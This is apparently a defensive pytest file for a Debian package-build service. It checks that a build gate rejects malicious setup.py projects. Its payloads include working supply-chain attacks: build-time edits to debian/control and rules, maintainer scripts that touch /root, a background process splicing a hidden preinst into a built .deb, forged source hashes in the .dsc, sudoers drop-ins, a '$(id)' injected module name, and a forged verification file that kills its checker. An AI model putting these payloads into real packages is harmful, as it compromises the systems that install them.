"""Attack 47: a project's own code edits the Debian source or the output while it is built; the gate sees what came of it."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

from tests.corpus.packing import sdist

pytestmark = [pytest.mark.root, pytest.mark.network]

SETUP = """
import glob, os, sys, time
from setuptools import setup
def attack():
{attack}
if any(word in sys.argv for word in ("build", "bdist_wheel", "install")):
    attack()
setup(name="evil", version="1.0", py_modules={modules}, data_files={data})
"""
SCRIPT = "#!/bin/sh\\ntouch /root/owned\\n"
APPEND = """
    with open("debian/control") as file:
        text = file.read()
    with open("debian/control", "w") as file:
        file.write(text.replace("Architecture:", {line!r} + "\\nArchitecture:"))"""
OWN_DEB = """
    with open("debian/rules", "a") as file:
        file.write("\\nexecute_after_dh_builddeb:\\n\\tdpkg-deb --root-owner-group -b debian/evil-own ..\\n")
    os.makedirs("debian/evil-own/DEBIAN", exist_ok=True)
    with open("debian/evil-own/DEBIAN/control", "w") as file:
        file.write("Package: sudo\\nVersion: 9\\nArchitecture: all\\nMaintainer: a <a@b.c>\\nDescription: x\\n")"""
OTHER = """
    with open("debian/control") as file:
        text = file.read()
    with open("debian/control", "w") as file:
        file.write(text.replace("Package: python3-evil", "Package: python3-requests"))"""
OUTPUT = """
    for place in ("/out", ".."):
        try:
            open(place + "/sudo_9_all.deb", "w").write("x")
        except OSError:
            pass"""
SCRIPTS = f"""
    for name in ("postinst", "preinst"):
        with open("debian/python3-evil." + name, "w") as file:
            file.write("{SCRIPT}")"""
#: Waits for the package, and puts members into the data of a control file that tar takes for a directory.
MANGLER = """
import glob, lzma, os, tarfile, time
def member(name, data, mode=0o644):
    info = tarfile.TarInfo(name)
    info.size, info.mode, info.uname, info.gname = len(data), mode, "root", "root"
    return info.tobuf(tarfile.GNU_FORMAT) + data + bytes(-len(data) % 512)
hidden = member("./preinst", b"#!/bin/sh\\ntouch /root/owned\\n", 0o755) + member("./shlibs", b"\\n")
until = time.monotonic() + 120
while time.monotonic() < until:
    time.sleep(0.003)
    for path in glob.glob("../*.deb"):
        raw, parts, at = open(path, "rb").read(), [], 8
        while at + 60 < len(raw):
            size = int(raw[at + 48 : at + 58])
            parts.append((raw[at : at + 48], raw[at + 60 : at + 60 + size]))
            at += 60 + size + size % 2
        if len(parts) < 3 or at != len(raw):
            continue
        control = lzma.decompress(parts[1][1])
        members = control[: (len(control.rstrip(bytes(1))) + 511) // 512 * 512] + member("./shlibs/", hidden)
        parts[1] = parts[1][0], lzma.compress(members + bytes(1024 + -(len(members) + 1024) % 10240))
        with open(path + ".x", "wb") as file:
            file.write(b"!<arch>\\n")
            for head, data in parts:
                file.write(head + b"%-10d\\x60\\n" % len(data) + data + b"\\n" * (len(data) % 2))
        os.rename(path + ".x", path)
        raise SystemExit
"""
HIDDEN = f"""
    import subprocess
    code = {MANGLER!r}
    if os.path.exists("debian/rules"):
        subprocess.Popen([sys.executable, "-c", code], start_new_session=True, stdin=-3, stdout=-3, stderr=-3)"""
#: Other sources than those that were built, which the .dsc agrees with.
SOURCES = """
    import gzip, hashlib
    for path in glob.glob("../*.orig.tar.gz"):
        old = open(path, "rb").read()
        new = gzip.compress(gzip.decompress(old), 1, mtime=1)
        with open(path, "wb") as file:
            file.write(new)
        for dsc in glob.glob("../*.dsc"):
            text = open(dsc).read().replace(f" {len(old)} ", f" {len(new)} ")
            for name in ("md5", "sha1", "sha256"):
                text = text.replace(hashlib.new(name, old).hexdigest(), hashlib.new(name, new).hexdigest())
            with open(dsc, "w") as file:
                file.write(text)"""
NAMESAKE = """
    os.makedirs("/out/a", exist_ok=True)
    with open("/out/a/python3-evil_1.0-0~lxcbuild1~deb12_all.deb", "w") as file:
        file.write("x")"""
#: Ends the check that imports it, and says in its place that all is well.
FORGER = """
import json, os, signal
with open("/out/verification.json", "w") as file:
    json.dump({"schema": 1, "modules": [], "scripts": [], "entry_points": [], "companions": [], "dependents": [], "installed": {},
               "environment": {}, "loose": [], "distributions": [{"name": "evil", "version": "1.0", "requires": []}]}, file)
os.kill(os.getppid(), signal.SIGKILL)
raise ImportError("nothing works")
"""
DATA = "[('/etc/sudoers.d', ['evil.py']), ('share/polkit-1/rules.d', ['evil.py'])]"
#: What the code does, and the modules and data files of the project.
CASES: dict[str, tuple[str, str, str]] = {
    "maintainer-script": (SCRIPTS, "['evil']", "[]"),
    "hidden-members": (HIDDEN, "['evil']", "[]"),
    "field": (APPEND.format(line="Essential: yes"), "['evil']", "[]"),
    "replaces": (APPEND.format(line="Replaces: python3-minimal, libc6"), "['evil']", "[]"),
    "other-package": (OTHER, "['evil']", "[]"),
    "rules": (OWN_DEB, "['evil']", "[]"),
    "output": (OUTPUT, "['evil']", "[]"),
    "sources": (SOURCES, "['evil']", "[]"),
    "namesake": (NAMESAKE, "['evil']", "[]"),
    "obsolete-field": (APPEND.format(line="XB-Revision: 99"), "['evil']", "[]"),
    "hook-of-the-distribution": ("\n    pass", "['evil', 'apport_python_hook']", "[]"),
    "name-for-a-shell": ("\n    pass", "['evil', '$(id)']", "[]"),
    "startup-file": ("\n    pass", "['evil', 'usercustomize']", "[]"),
    "sudoers": ("\n    pass", "['evil']", DATA),
}
OFTEN = ("maintainer-script", "hidden-members", "startup-file", "sources", "namesake")
SAID = {
    "hidden-members": "ends in a slash",
    "name-for-a-shell": "a shell",
    "sources": "is not the source archive that was built",
    "namesake": "came out in a directory of its own",
}
#: What these do comes too late, or lies where nobody looks: the build may succeed, without them.
IN_VAIN = ("rules", "output")


@pytest.mark.attack(number=47)
@pytest.mark.parametrize("kind", [pytest.param(k, marks=[] if k in OFTEN else [pytest.mark.slow]) for k in CASES])
def test_what_a_backend_slips_in_is_never_published(build: Any, tmp_path: Path, kind: str) -> None:
    attack, modules, data = CASES[kind]
    project = tmp_path / "evil"
    project.mkdir()
    for module in ("evil", "usercustomize", "apport_python_hook", "$(id)"):
        (project / f"{module}.py").write_text("X = 1\n")
    (project / "setup.py").write_text(SETUP.format(attack=attack, modules=modules, data=data))
    done = build(sdist(project, tmp_path))
    found = done.build["failure"]
    published = [str(item) for item in done.build["artifacts"]]
    if kind in IN_VAIN and done.build["status"] == "built":
        assert published
        assert not any("sudo" in name for name in published)
        return
    assert found is not None, published
    assert SAID.get(kind, "") in found["brief"], found
    assert found["class"] in ("gate-rejected", "wrote-outside", "compile-failed"), found
    assert published == []


@pytest.mark.attack(number=47)
def test_the_same_project_without_the_attack_is_built(build: Any, tmp_path: Path) -> None:
    project = tmp_path / "evil"
    project.mkdir()
    (project / "evil.py").write_text("X = 1\n")
    (project / "setup.py").write_text(SETUP.format(attack="\n    pass", modules="['evil']", data="[]"))
    assert build(sdist(project, tmp_path)).build["status"] == "built"


@pytest.mark.attack(number=47)
def test_a_package_cannot_end_its_own_check(build: Any, tmp_path: Path) -> None:
    project = tmp_path / "evil"
    project.mkdir()
    (project / "evil_forger.py").write_text(FORGER)
    (project / "setup.py").write_text(SETUP.format(attack="\n    pass", modules="['evil', 'evil_forger']", data="[]"))
    found = build(sdist(project, tmp_path)).build["failure"]
    assert (found["class"], found["phase"]) == ("install-failed", "verify"), found
